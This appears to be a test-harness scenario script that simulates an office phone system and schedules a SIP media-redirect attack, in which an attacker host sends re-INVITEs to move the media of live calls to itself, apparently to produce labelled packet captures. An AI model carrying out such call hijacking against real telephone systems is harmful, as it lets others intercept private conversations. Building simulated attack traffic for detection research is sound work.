# At a telephone system of another make (sip.js) a third host moves the media of running calls to itself.
draw_place
use_pbx
open_office
add_handsets 8 2
third=$(stranger third)
add_attacker third "$third"
count=$(drawn count 3 5)
begin
ordinary_day 40
# Without the carrier: its SIPp ends calls that are disturbed, and what is sent to it passes the capture by.
sed -i '/\tincoming /d; /sip:0555/d' "$scratch/timetable"
at 12 attack A1 hijack:media_redirect third 5080 "A third host sends $count re-INVITEs with its own media address to phones that were called." \
    "a Python program of this directory" "$here/intrude" "$scratch/$recording.pcap" "$PROXY" INVITE "$(one_of party callee caller)" "$third:5080" "$count" 30
within_calls_of_others A1
finish A1
expect_said A1 'SIP/2.0 200 OK'
